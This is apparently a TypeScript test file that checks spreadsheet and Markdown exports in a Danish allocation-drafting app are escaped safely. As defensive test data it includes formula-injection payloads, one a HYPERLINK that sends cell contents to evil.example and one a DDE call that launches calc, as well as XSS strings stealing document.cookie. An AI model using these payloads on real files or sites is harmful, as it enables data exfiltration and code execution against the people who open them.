/**
 * Exports never carry something that runs when opened: formula cells in CSV/XLSX are kept as text
 * (and read back as written), raw HTML and links in the Markdown export lose their meaning.
 */
import ExcelJS from "exceljs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Allocation } from "../../src/domain/index.ts";
import { exportDraftMarkdown } from "../../src/drafting/export-markdown.ts";
import {
  readAllocationSpreadsheet,
  writeAllocationSpreadsheet,
} from "../../src/import/allocation-sheet.ts";
import { parseCsv } from "../../src/import/csv.ts";
import {
  escapeMarkdownText,
  escapeSpreadsheetText,
  unescapeSpreadsheetText,
} from "../../src/security/export-escaping.ts";
import { assessmentDraft } from "../support/draft.ts";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "\t=1+1",
  "\r=1+1",
];

describe("spreadsheet exports", () => {
  it("keep formula-like text as text in CSV and XLSX, numbers as numbers, and read back as written", async () => {
    const entries = HOSTILE.map((text, index) => ({
      id: `farlig-${index}`,
      allocation: {
        initiative: text,
        lines: [{ area: "service", label: text, amounts: { "2027": 500_000 } }],
      } as Allocation,
    }));
    const csv = new TextDecoder().decode(await writeAllocationSpreadsheet(entries, "csv"));
    for (const row of parseCsv(csv).slice(1)) {
      for (const cell of row.filter((value) => value !== "" && !/^-?\d+$/u.test(value)))
        expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/u);
      expect(row).toContain("500000");
    }

    const xlsx = await writeAllocationSpreadsheet(entries, "xlsx");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.slice().buffer as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    sheet?.eachRow((row, number) => {
      if (number === 1) return;
      row.eachCell((cell) => {
        expect(
          typeof cell.value === "object" && cell.value !== null && "formula" in cell.value,
        ).toBe(false);
        if (typeof cell.value === "string") expect(cell.value).not.toMatch(/^[=+\-@\t\r]/u);
        else expect(typeof cell.value).toBe("number");
      });
    });

    for (const [format, bytes] of [
      ["csv", new TextEncoder().encode(csv)],
      ["xlsx", xlsx],
    ] as const) {
      const back = await readAllocationSpreadsheet(`export.${format}`, bytes);
      expect(back.errors).toEqual([]);
      expect(back.allocations.map((entry) => entry.allocation.initiative)).toEqual(
        HOSTILE.map((text) => text.trim()),
      );
    }
  });

  it("escapes exactly the formula starts, and unescaping gives the text back (property)", () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const escaped = escapeSpreadsheetText(text);
        expect(escaped).not.toMatch(/^[=+\-@\t\r]/u);
        expect(unescapeSpreadsheetText(escaped)).toBe(text);
      }),
    );
  });
});

describe("Markdown export", () => {
  it("turns raw HTML and javascript: links into plain text", () => {
    const draft = assessmentDraft({
      title: "Indsats <img src=x onerror=alert(1)>",
      sections: [
        {
          key: "indholdIJusteretIndsats",
          heading: "Indhold i justeret indsats",
          text: [
            'Se [her](javascript:alert(document.cookie)) og <script>alert("x")</script>.',
            '![billede](javascript:alert(1)) <a href="javascript:alert(1)">link</a>',
            "[ref][x]",
            "[x]: javascript:alert(1)",
            "<javascript:alert(1)> &#106;avascript",
          ].join("\n"),
          start: 0,
          fromData: false,
        },
      ],
    });
    const markdown = exportDraftMarkdown(draft);
    expect(markdown).not.toMatch(/<(script|img|a)\b/iu);
    expect(markdown).not.toMatch(/\]\(javascript:/iu);
    expect(markdown).not.toMatch(/^\s*\[x\]:/mu);
    expect(markdown).not.toContain("<javascript:");
    expect(markdown).not.toContain("&#106;");
    // The words are all still there.
    expect(markdown).toContain("Se [her]\\(javascript:alert(document.cookie)) og &lt;script>");
  });

  it("never leaves a tag or an inline link in escaped text (property)", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom(
            "<",
            ">",
            "[",
            "]",
            "(",
            ")",
            "a",
            "javascript:",
            " ",
            "\n",
            "&",
            "#",
            ";",
          ),
        ),
        (pieces) => {
          const escaped = escapeMarkdownText(pieces.join(""));
          expect(escaped).not.toMatch(/<[a-z/!?]/iu);
          expect(escaped).not.toMatch(/\]\(/u);
          expect(escaped).not.toMatch(/^\s*\[[^\]\n]*\]:/mu);
        },
      ),
    );
  });
});
